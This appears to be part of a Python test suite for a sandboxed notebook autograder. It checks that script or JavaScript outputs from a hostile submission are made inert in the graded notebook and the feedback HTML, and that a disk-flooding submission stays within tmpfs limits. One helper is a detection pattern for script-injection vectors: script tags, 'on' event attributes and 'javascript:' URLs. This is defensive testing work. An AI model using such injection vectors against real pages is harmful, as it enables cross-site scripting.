    def handle_starttag(self, tag, attrs):
        self.in_script = tag == "script"
        for name, value in attrs:
            if name.startswith("on") or (value or "").strip().lower().startswith("javascript:"):
                self.runnable.append(f"{tag} {name}={value}")

    def handle_endtag(self, tag):
        self.in_script = False

    def handle_data(self, data):
        if self.in_script:
            self.runnable.append(data)


def test_scripted_outputs_are_inert_in_the_autograded_notebook_and_the_feedback(course):
    flooded = autograded(course, "flooder", "quiz1_cosine_similarity")
    kinds = {key for cell in flooded.cells for o in cell.get("outputs", []) for key in o.get("data", {})}
    assert not kinds & {"application/javascript", "text/javascript"}, kinds
    finder = ScriptFinder()
    finder.feed(feedback_html(course, "flooder", "quiz1_cosine_similarity"))
    assert not [place for place in finder.runnable if PAYLOAD in place], finder.runnable


def test_the_kernels_disk_is_bounded(course):
    cell = cells_by_grade_id(autograded(course, "disk_flood", "quiz1_cosine_similarity"))["quiz1_rowwise_answer"]
    printed = "".join(o.get("text", "") for o in cell.outputs)
    taken = json.loads(printed.split("FLOOD ", 1)[1].splitlines()[0])
    if os.geteuid() == 0:  # a tmpfs of its own (as another user: $XDG_RUNTIME_DIR's cap)
        assert taken["socket"] <= 2**20, taken
    assert taken["root"] == taken["usr"] == 0
    assert (
        max(taken["home"], taken["tmp"], taken["var_tmp"]) <= bubblewrap.TMPFS_BYTES
        and taken["shm"] <= bubblewrap.SHM_BYTES
    )
    assert grades(course["root"])["disk_flood"] == EXPECTED["disk_flood"]
